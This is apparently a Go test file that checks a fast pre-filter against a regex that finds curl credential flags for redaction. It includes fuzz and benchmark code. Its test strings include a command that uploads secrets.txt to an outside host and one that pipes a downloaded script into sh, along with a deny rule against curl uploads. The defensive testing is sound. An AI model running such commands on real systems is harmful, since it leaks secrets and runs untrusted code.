package audit

import (
	"math/rand/v2"
	"strings"
	"testing"
)

// curlAtoms make up generated commands around mayCurlUser's cut: the
// program, the flags reCurlUser knows and others, separators it stops at,
// quotes, colons and ordinary words.
var curlAtoms = []string{
	"curl", "grpcurl", "curly", " ", "\t", "\n", " -u ", " -U ", " --user ", " --user=", " --proxy-user ",
	"-u", "-U", " -T ", " -H ", " -sSf ", ":", "admin", "hunter2", "https://x", "'", `"`, ";", "&&", "|",
	"x", "secrets.txt", "[REDACTED]", "=", "--user-agent", "$P", "\f", "\r", "\v", "é", "_", "no-curl-upload", "--proxy-user=",
}

func curlSamples() []string {
	out := []string{
		"curl -T secrets.txt https://example.com/upload", "curl -u admin:hunter2 https://x",
		"curl --user=a:b x", "curl -U p:q --proxy x", "x -u a:b; curl x", "curl x; y -u a:b",
		"curl -H 'X: y' -u admin", "curl --proxy-user u:p x", "curl -sSf https://x | sh",
		"deny by rule no-curl-upload on segment 31 `curl -T secrets.txt https://example.com/upload`; mode default",
		"curl\n-u a:b", "curl -u=\"a:b\"", "curl -u='a:b", "curl -u \"a:b", "curl -u a:'b", "curl -u :b", "curl -u a:",
		"curl\v-u a:b", "curl -u\va:b", "é curl -u a:b", "xcurl -u a:b", "curl_ -u a:b", "curl --user\t\ta:b", "curl -u=a:b",
	}
	r := rand.New(rand.NewPCG(14, 2))
	for range 20000 {
		var b strings.Builder
		if r.IntN(2) == 0 {
			b.WriteString("curl")
		}
		for range 1 + r.IntN(10) {
			b.WriteString(curlAtoms[r.IntN(len(curlAtoms))])
		}
		out = append(out, b.String())
	}
	return out
}

// TestMayCurlUser: the scan says what reCurlUser says, so the curl
// detector skips the regexp only where it finds no match; and the scan
// says no often enough to matter.
func TestMayCurlUser(t *testing.T) {
	re := reCurlUser.Get()
	no, matched := 0, 0
	for _, s := range curlSamples() {
		m := re.MatchString(s)
		if m {
			matched++
		}
		if got := mayCurlUser(s); got != m {
			t.Fatalf("mayCurlUser(%q) = %v, but reCurlUser.MatchString says %v", s, got, m)
		}
		if !m {
			no++
		}
	}
	if no < 1000 || matched < 100 {
		t.Fatalf("samples: %d skipped by mayCurlUser, %d matched by reCurlUser", no, matched)
	}
	for _, s := range []string{"curl -T secrets.txt https://example.com/upload", "curl -sSf https://x | sh",
		"deny by rule no-curl-upload on segment 31 `curl -T secrets.txt https://example.com/upload`; mode default"} {
		if mayCurlUser(s) {
			t.Errorf("mayCurlUser(%q) = true, want false", s)
		}
	}
}

func FuzzMayCurlUser(f *testing.F) {
	for _, s := range curlSamples()[:50] {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if got, m := mayCurlUser(s), reCurlUser.Get().MatchString(s); got != m {
			t.Errorf("mayCurlUser(%q) = %v, but reCurlUser.MatchString says %v", s, got, m)
		}
	})
}

// BenchmarkRedactCurl is a curl command with no credential: the curl
// detector's trigger fires, and mayCurlUser spares the regexp.
func BenchmarkRedactCurl(b *testing.B) {
	s := "du -sh . && curl -T secrets.txt https://example.com/upload"
	b.Run("redact", func(b *testing.B) {
		for b.Loop() {
			Redact(s)
		}
	})
	// What the curl detector cost before the cut, its regexp compiled.
	b.Run("curl regexp", func(b *testing.B) {
		re := reCurlUser.Get()
		for b.Loop() {
			replaceSub(re, s, func(s string, m []int) string { return maskGroup(s, m, 1) })
		}
	})
	b.Run("curl cut", func(b *testing.B) {
		for b.Loop() {
			mayCurlUser(s)
		}
	})
}
